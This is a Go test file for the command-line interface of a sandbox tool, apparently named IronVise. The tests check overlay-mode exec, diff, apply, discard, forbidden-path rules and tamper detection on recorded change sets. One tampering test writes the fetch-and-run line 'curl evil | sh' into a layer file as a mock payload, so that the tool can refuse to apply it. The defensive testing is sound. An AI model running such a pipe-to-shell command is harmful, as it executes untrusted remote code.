//go:build linux

package cli

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/uuid"

	"github.com/ironvise/ironvise/internal/config"
	"github.com/ironvise/ironvise/internal/ledger"
	"github.com/ironvise/ironvise/internal/ledger/ledgerdb"
)

func readFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// overlayWorkspace is a workspace the sandbox user can write through the
// overlay, with a file to format, one to delete and one to rename.
func overlayWorkspace(t *testing.T) string {
	t.Helper()
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	os.Chmod(ws, 0o777)
	for name, body := range map[string]string{"main.txt": "alpha\nold line\nomega\n", "old.txt": "move me\n", "del.txt": "delete me\n"} {
		if err := os.WriteFile(filepath.Join(ws, name), []byte(body), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	return ws
}

// TestOverlayExecDiffApply is the command-line workflow in overlay mode:
// exec --session runs a build and a formatter, then a deletion and a
// rename that see the first command's changes, all in the overlay (the
// real files do not change); diff shows the recorded change sets; apply
// refuses a conflict with a file changed on the host and a layer changed
// behind IronVise's back, naming the files, and changes nothing; a dry run
// writes nothing; apply writes the changes and records workspace_applied
// on the session's chain, which still verifies.
func TestOverlayExecDiffApply(t *testing.T) {
	ws := overlayWorkspace(t)
	env := cliEnv(t, "DATABASE_URL", "", "ECTO_SANDBOX_WORKSPACE", "overlay")
	sid := runningSession(t, env, ws, "overlay")
	exec := func(cmd string) string {
		t.Helper()
		code, out, errOut := runCLI(t, env, "", "exec", "--session", sid, "--workspace", ws, "--", cmd)
		if code != 0 {
			t.Fatalf("exec %q: exit %d\n%s%s", cmd, code, out, errOut)
		}
		return out
	}
	exec("mkdir -p build && echo artefact > build/out.bin && sed -i 's/old line/new line/' main.txt")
	if out := exec("cat build/out.bin && rm del.txt && mv old.txt renamed.txt"); out != "artefact\n" {
		t.Fatalf("the second command read %q; want the first one's artefact", out)
	}
	if readFile(t, filepath.Join(ws, "main.txt")) != "alpha\nold line\nomega\n" || readFile(t, filepath.Join(ws, "del.txt")) != "delete me\n" {
		t.Fatal("the real workspace changed before apply")
	}
	if _, err := os.Stat(filepath.Join(ws, "build")); err == nil {
		t.Fatal("build/ exists in the real workspace before apply")
	}

	code, out, errOut := runCLI(t, env, "", "diff", sid)
	if code != 0 {
		t.Fatalf("diff: exit %d %s", code, errOut)
	}
	for _, want := range []string{"2 step(s) with changes to apply", "added    build/out.bin", "modified main.txt", "-old line", "+new line",
		"deleted  del.txt", "renamed  old.txt -> renamed.txt"} {
		if !strings.Contains(out, want) {
			t.Fatalf("diff output lacks %q:\n%s", want, out)
		}
	}
	if code, out, _ := runCLI(t, env, "", "diff", sid, "--json"); code != 0 || !strings.Contains(out, `"op":"renamed"`) && !strings.Contains(out, `"op": "renamed"`) {
		t.Fatalf("diff --json: exit %d %s", code, out)
	}

	// A conflict: the host changed a file the session modified.
	os.WriteFile(filepath.Join(ws, "main.txt"), []byte("edited on the host\n"), 0o666)
	code, _, errOut = runCLI(t, env, "", "apply", sid)
	if code != ExitDenied || !strings.Contains(errOut, "main.txt") || !strings.Contains(errOut, "apply refused") {
		t.Fatalf("apply with a host conflict: exit %d %s", code, errOut)
	}
	if _, err := os.Stat(filepath.Join(ws, "build")); err == nil {
		t.Fatal("a refused apply wrote build/")
	}
	os.WriteFile(filepath.Join(ws, "main.txt"), []byte("alpha\nold line\nomega\n"), 0o666)

	// Tampering: the upper layer of step 1 edited behind IronVise's back.
	upper := filepath.Join(env["ECTO_DATA_DIR"], "overlays", sid, "1", "upper", "build", "out.bin")
	orig := readFile(t, upper)
	if err := os.WriteFile(upper, []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, errOut = runCLI(t, env, "", "apply", sid)
	if code != ExitDenied || !strings.Contains(errOut, "build/out.bin") || !strings.Contains(errOut, "do not match the recorded change sets") {
		t.Fatalf("apply of a tampered layer: exit %d %s", code, errOut)
	}
	os.WriteFile(upper, []byte(orig), 0o644)

	code, out, errOut = runCLI(t, env, "", "apply", sid, "--dry-run")
	if code != 0 || !strings.Contains(out, "would apply") {
		t.Fatalf("dry run: exit %d %s %s", code, out, errOut)
	}
	if _, err := os.Stat(filepath.Join(ws, "build")); err == nil {
		t.Fatal("a dry run wrote build/")
	}
	code, out, errOut = runCLI(t, env, "", "apply", sid)
	if code != 0 {
		t.Fatalf("apply: exit %d %s %s", code, out, errOut)
	}
	if readFile(t, filepath.Join(ws, "build", "out.bin")) != "artefact\n" || readFile(t, filepath.Join(ws, "main.txt")) != "alpha\nnew line\nomega\n" ||
		readFile(t, filepath.Join(ws, "renamed.txt")) != "move me\n" {
		t.Fatal("apply did not write the changes")
	}
	for _, gone := range []string{"del.txt", "old.txt"} {
		if _, err := os.Lstat(filepath.Join(ws, gone)); err == nil {
			t.Fatalf("%s still exists after apply", gone)
		}
	}
	evs := events(t, env, sid)
	if last := evs[len(evs)-1]; last.Type != ledger.TypeWorkspaceApplied || !strings.Contains(string(last.Payload), `"steps":[1,2]`) {
		t.Fatalf("last event %s %s; want workspace_applied of steps 1 and 2", last.Type, last.Payload)
	}
	if code, _, errOut := runCLI(t, env, "", "verify-session", sid); code != 0 {
		t.Fatalf("verify-session after apply: exit %d %s", code, errOut)
	}
	// Nothing is left to apply, and diff says so.
	if code, out, _ := runCLI(t, env, "", "apply", sid); code != 0 || !strings.Contains(out, "nothing to apply") {
		t.Fatalf("second apply: exit %d %s", code, out)
	}
	if _, err := uuid.Parse(sid); err != nil {
		t.Fatal(err)
	}
}

// TestOverlayExecSealedApply: a plain exec in overlay mode records its
// workspace mode in the genesis and seals; apply then records
// workspace_applied on the instance chain, naming the session. A session
// that did not run in overlay mode has nothing to apply.
func TestOverlayExecSealedApply(t *testing.T) {
	ws := overlayWorkspace(t)
	env := cliEnv(t, "DATABASE_URL", "", "ECTO_SANDBOX_WORKSPACE", "overlay")
	code, _, errOut := runCLI(t, env, "", "exec", "--workspace", ws, "--", "echo built > artefact.txt")
	if code != 0 {
		t.Fatalf("exec: exit %d %s", code, errOut)
	}
	sid := sessionOf(t, errOut)
	if _, err := os.Stat(filepath.Join(ws, "artefact.txt")); err == nil {
		t.Fatal("exec wrote the real workspace")
	}
	if code, out, errOut := runCLI(t, env, "", "apply", sid); code != 0 || !strings.Contains(out, "added    artefact.txt") {
		t.Fatalf("apply: exit %d %s %s", code, out, errOut)
	}
	if readFile(t, filepath.Join(ws, "artefact.txt")) != "built\n" {
		t.Fatal("apply did not write artefact.txt")
	}
	found := false
	for _, e := range events(t, env, uuid.Nil.String()) {
		found = found || e.Type == ledger.TypeWorkspaceApplied && strings.Contains(string(e.Payload), `"session":"`+sid+`"`)
	}
	if !found {
		t.Fatalf("the instance chain has no workspace_applied naming %s", sid)
	}
	if code, _, errOut := runCLI(t, env, "", "verify-session", uuid.Nil.String()); code != 0 {
		t.Fatalf("verify the instance chain: exit %d %s", code, errOut)
	}

	ro := cliEnv(t, "DATABASE_URL", "")
	code, _, errOut = runCLI(t, ro, "", "exec", "--workspace", ws, "--", "true")
	if code != 0 {
		t.Fatalf("exec ro: %d %s", code, errOut)
	}
	if code, _, errOut := runCLI(t, ro, "", "apply", sessionOf(t, errOut)); code != ExitUsage || !strings.Contains(errOut, "did not run in overlay mode") {
		t.Fatalf("apply of a ro session: exit %d %s", code, errOut)
	}
}

// TestOverlayExecThroughDaemon: exec --session through serve's socket in
// overlay mode; the second command sees the first one's change, the real
// workspace is untouched, and apply writes it.
func TestOverlayExecThroughDaemon(t *testing.T) {
	ws := overlayWorkspace(t)
	env := cliEnv(t, "DATABASE_URL", "", "ECTO_SANDBOX_WORKSPACE", "overlay")
	stop := startServe(t, env, ws)
	var sid string
	{
		code, _, errOut := execDaemon(t, env, "--workspace", ws, "--", "echo one > first.txt")
		if code != 0 {
			t.Fatalf("exec through the daemon: exit %d %s", code, errOut)
		}
		sid = sessionOf(t, errOut)
	}
	stop()
	if _, err := os.Stat(filepath.Join(ws, "first.txt")); err == nil {
		t.Fatal("exec through the daemon wrote the real workspace")
	}
	code, out, errOut := runCLI(t, env, "", "diff", sid)
	if code != 0 || !strings.Contains(out, "added    first.txt") || !strings.Contains(out, "+one") {
		t.Fatalf("diff of the daemon's session: exit %d %s %s", code, out, errOut)
	}
	if code, _, errOut := runCLI(t, env, "", "apply", sid); code != 0 || readFile(t, filepath.Join(ws, "first.txt")) != "one\n" {
		t.Fatalf("apply: exit %d %s", code, errOut)
	}
}

// TestOverlayExecForbiddenPath: a command whose changes touch a policy's
// forbidden path fails (exit 126 although the command succeeded), names
// the path and the rule, and leaves nothing to apply.
func TestOverlayExecForbiddenPath(t *testing.T) {
	ws := overlayWorkspace(t)
	env := cliEnv(t, "DATABASE_URL", "", "ECTO_SANDBOX_WORKSPACE", "overlay")
	pol := filepath.Join(t.TempDir(), "p.toml")
	os.WriteFile(pol, []byte("name = \"p\"\n[workspace]\nforbidden_paths = [\"**/.env\"]\n"), 0o644)
	code, _, errOut := runCLI(t, env, "", "exec", "--workspace", ws, "--policy", pol, "--", "echo ok > fine.txt && echo KEY=1 > .env")
	if code != ExitExecDenied || !strings.Contains(errOut, `.env (added) matches forbidden_paths "**/.env"`) {
		t.Fatalf("exec writing a forbidden path: exit %d %s", code, errOut)
	}
	sid := sessionOf(t, errOut)
	if code, out, _ := runCLI(t, env, "", "replay", sid); code != 0 || !strings.Contains(out, "workspace: overlay (forbidden: **/.env)") ||
		!strings.Contains(out, "step 1 DISCARDED (forbidden paths): added .env, added fine.txt, forbidden .env by **/.env") {
		t.Fatalf("replay: exit %d %s", code, out)
	}
	if code, out, _ := runCLI(t, env, "", "apply", sid); code != 0 || !strings.Contains(out, "nothing to apply") {
		t.Fatalf("apply after a forbidden path: exit %d %s", code, out)
	}
	for _, f := range []string{"fine.txt", ".env"} {
		if _, err := os.Stat(filepath.Join(ws, f)); err == nil {
			t.Fatalf("%s reached the real workspace", f)
		}
	}
	// A policy that asks for overlay mode while the configuration says ro
	// refuses to start, naming the fix.
	os.WriteFile(pol, []byte("name = \"p\"\n[workspace]\nmode = \"overlay\"\n"), 0o644)
	code, _, errOut = runCLI(t, cliEnv(t, "DATABASE_URL", ""), "", "exec", "--workspace", ws, "--policy", pol, "--", "true")
	if code != ExitUsage || !strings.Contains(errOut, "set ECTO_SANDBOX_WORKSPACE=overlay") {
		t.Fatalf("policy overlay under ro configuration: exit %d %s", code, errOut)
	}
}

// TestOverlayExecFailsClosed: where the tier cannot mount the overlay (the
// native tier's container mode), the run is aborted (125), nothing reaches
// the real workspace, and the workspace_diff records the discarded layer.
func TestOverlayExecFailsClosed(t *testing.T) {
	ws := overlayWorkspace(t)
	env := cliEnv(t, "DATABASE_URL", "", "ECTO_SANDBOX_WORKSPACE", "overlay", "ECTO_SANDBOX_CONTAINER_MODE", "true")
	code, _, errOut := runCLI(t, env, "", "exec", "--workspace", ws, "--", "echo x > written.txt")
	if code != ExitExecAborted || !strings.Contains(errOut, "overlay") {
		t.Fatalf("overlay mode in container mode: exit %d %s", code, errOut)
	}
	if _, err := os.Stat(filepath.Join(ws, "written.txt")); err == nil {
		t.Fatal("an aborted overlay run wrote the real workspace")
	}
	evs := events(t, env, sessionOf(t, errOut))
	found := false
	for _, e := range evs {
		if e.Type == ledger.TypeWorkspaceDiff {
			found = strings.Contains(string(e.Payload), `"accepted":false`) && strings.Contains(string(e.Payload), `"error":"the sandbox aborted the run"`)
		}
	}
	if !found {
		t.Fatalf("no discarded workspace_diff: %s", types(evs))
	}
}

// TestExecWorkspaceModeFlag: --workspace-mode narrows the configured mode
// per session and never widens it. Under ECTO_SANDBOX_WORKSPACE=overlay a
// session asking for ro cannot write the workspace and its genesis says
// so; under ro a session asking for overlay is refused with the fix, as is
// one whose policy keeps the workspace read-only; a bad value is a usage
// error. Through the daemon the flag reaches serve.
func TestExecWorkspaceModeFlag(t *testing.T) {
	ws := overlayWorkspace(t)
	env := cliEnv(t, "DATABASE_URL", "", "ECTO_SANDBOX_WORKSPACE", "overlay")

	code, _, errOut := runCLI(t, env, "", "exec", "--workspace", ws, "--workspace-mode", "ro", "--", "echo x > ro.txt")
	if code == 0 {
		t.Fatalf("a session asking for ro wrote the workspace: %s", errOut)
	}
	roSession := sessionOf(t, errOut)
	if code, out, _ := runCLI(t, env, "", "replay", roSession); code != 0 || !strings.Contains(out, "workspace: ro (asked for by the session)") {
		t.Fatalf("replay of the ro session: exit %d %s", code, out)
	}
	if _, err := os.Stat(filepath.Join(ws, "ro.txt")); err == nil {
		t.Fatal("ro.txt reached the real workspace")
	}

	// The same configuration, overlay asked explicitly: allowed.
	code, _, errOut = runCLI(t, env, "", "exec", "--workspace", ws, "--workspace-mode", "overlay", "--", "echo y > ov.txt")
	if code != 0 {
		t.Fatalf("overlay asked under overlay: exit %d %s", code, errOut)
	}

	// Under ro, overlay asked: refused before anything runs.
	roEnv := cliEnv(t, "DATABASE_URL", "")
	code, _, errOut = runCLI(t, roEnv, "", "exec", "--workspace", ws, "--workspace-mode", "overlay", "--", "true")
	if code != ExitUsage || !strings.Contains(errOut, "set ECTO_SANDBOX_WORKSPACE=overlay, or ask for ro") {
		t.Fatalf("overlay asked under ro: exit %d %s", code, errOut)
	}
	// A policy keeping the workspace read-only wins over the session.
	pol := filepath.Join(t.TempDir(), "p.toml")
	os.WriteFile(pol, []byte("name = \"p\"\n[workspace]\nmode = \"ro\"\n"), 0o644)
	code, _, errOut = runCLI(t, env, "", "exec", "--workspace", ws, "--policy", pol, "--workspace-mode", "overlay", "--", "true")
	if code != ExitUsage || !strings.Contains(errOut, `keeps it read-only ([workspace] mode = "ro")`) {
		t.Fatalf("overlay asked under a ro policy: exit %d %s", code, errOut)
	}
	code, _, errOut = runCLI(t, env, "", "exec", "--workspace", ws, "--workspace-mode", "rw", "--", "true")
	if code != ExitUsage || !strings.Contains(errOut, `workspace mode "rw": want "ro" or "overlay"`) {
		t.Fatalf("a bad mode: exit %d %s", code, errOut)
	}

	// A running session keeps the mode its genesis recorded: ro here,
	// although the configuration says overlay.
	sid := runningSession(t, env, ws, "ro")
	code, _, errOut = runCLI(t, env, "", "exec", "--session", sid, "--workspace", ws, "--workspace-mode", "overlay", "--", "true")
	if code != ExitUsage || !strings.Contains(errOut, "runs in workspace mode ro, which a running session keeps") {
		t.Fatalf("--workspace-mode overlay on a running ro session: exit %d %s", code, errOut)
	}
	if code, _, errOut := runCLI(t, env, "", "exec", "--session", sid, "--workspace", ws, "--", "echo w > resumed.txt"); code == 0 {
		t.Fatalf("a resumed ro session wrote the workspace under an overlay configuration: %s", errOut)
	}
	for _, e := range events(t, env, sid) {
		if e.Type == ledger.TypeWorkspaceDiff {
			t.Fatal("a resumed ro session recorded a workspace_diff")
		}
	}

	// Through the daemon: the flag travels with the request.
	stop := startServe(t, env, ws)
	defer stop()
	code, _, errOut = execDaemon(t, env, "--workspace", ws, "--workspace-mode", "ro", "--", "echo z > daemon.txt")
	if code == 0 {
		t.Fatalf("a daemon session asking for ro wrote the workspace: %s", errOut)
	}
	if code, out, _ := runCLI(t, env, "", "replay", sessionOf(t, errOut)); code != 0 || !strings.Contains(out, "workspace: ro (asked for by the session)") {
		t.Fatalf("replay of the daemon's ro session: exit %d %s", code, out)
	}
}

// TestOverlayDiscard: discard throws away an ended session's unapplied
// layers: they leave the data dir, workspace_discarded records the steps
// on the instance chain (the session is sealed), diff marks them, apply
// has nothing left, the real workspace is untouched and the session still
// verifies. A running session's layers are refused: its next command runs
// on them.
func TestOverlayDiscard(t *testing.T) {
	ws := overlayWorkspace(t)
	env := cliEnv(t, "DATABASE_URL", "", "ECTO_SANDBOX_WORKSPACE", "overlay")
	code, _, errOut := runCLI(t, env, "", "exec", "--workspace", ws, "--", "echo one > a.txt")
	if code != 0 {
		t.Fatalf("exec: exit %d %s", code, errOut)
	}
	sid := sessionOf(t, errOut)
	layers := filepath.Join(env["ECTO_DATA_DIR"], "overlays", sid)
	if _, err := os.Stat(layers); err != nil {
		t.Fatalf("the session's layers: %v", err)
	}
	code, out, errOut := runCLI(t, env, "", "discard", sid)
	if code != 0 || !strings.Contains(out, "discarded steps [1] (1 path change(s))") {
		t.Fatalf("discard: exit %d %s %s", code, out, errOut)
	}
	if _, err := os.Stat(layers); !os.IsNotExist(err) {
		t.Fatalf("the layers are still there after discard: %v", err)
	}
	if _, err := os.Stat(filepath.Join(ws, "a.txt")); err == nil {
		t.Fatal("discard wrote the real workspace")
	}
	found := false
	for _, e := range events(t, env, ledger.InstanceSessionID.String()) {
		if e.Type == ledger.TypeWorkspaceDiscarded && strings.Contains(string(e.Payload), sid) && strings.Contains(string(e.Payload), `"by":"operator:cli"`) {
			found = true
		}
	}
	if !found {
		t.Fatal("no workspace_discarded on the instance chain")
	}
	if code, out, _ := runCLI(t, env, "", "diff", sid); code != 0 || !strings.Contains(out, "0 step(s) with changes to apply") || !strings.Contains(out, "discarded unapplied (ironvise discard)") {
		t.Fatalf("diff after discard: exit %d %s", code, out)
	}
	if code, out, _ := runCLI(t, env, "", "apply", sid); code != 0 || !strings.Contains(out, "nothing to apply") {
		t.Fatalf("apply after discard: exit %d %s", code, out)
	}
	if code, out, _ := runCLI(t, env, "", "discard", sid); code != 0 || !strings.Contains(out, "nothing to discard") {
		t.Fatalf("a second discard: exit %d %s", code, out)
	}
	if code, out, errOut := runCLI(t, env, "", "verify-session", sid); code != 0 {
		t.Fatalf("verify-session after discard: exit %d %s %s", code, out, errOut)
	}

	// A running session keeps its layers.
	running := runningSession(t, env, ws, "overlay")
	if code, _, errOut := runCLI(t, env, "", "discard", running); code != ExitUsage || !strings.Contains(errOut, "the session is still running") {
		t.Fatalf("discard of a running session: exit %d %s", code, errOut)
	}
}

// runningSession records a running session, as an external agent's,
// whose genesis names workspace ws in mode, and returns its id.
func runningSession(t *testing.T, env map[string]string, ws, mode string) string {
	t.Helper()
	cfg, _ := config.Load(config.MapLookup(env))
	l, err := ledgerdb.Open(context.Background(), cfg.Ledger.DatabaseURL, 5, ledger.Options{DataDir: cfg.DataDir})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close(context.Background())
	s, err := l.CreateSession(context.Background(), ledger.SessionSpec{Goal: "external agent session", SandboxTier: "native-linux",
		Workspace: &ledger.SessionWorkspace{Mode: mode, Path: ws, ForbiddenPaths: []string{}}})
	if err != nil {
		t.Fatal(err)
	}
	return s.ID.String()
}
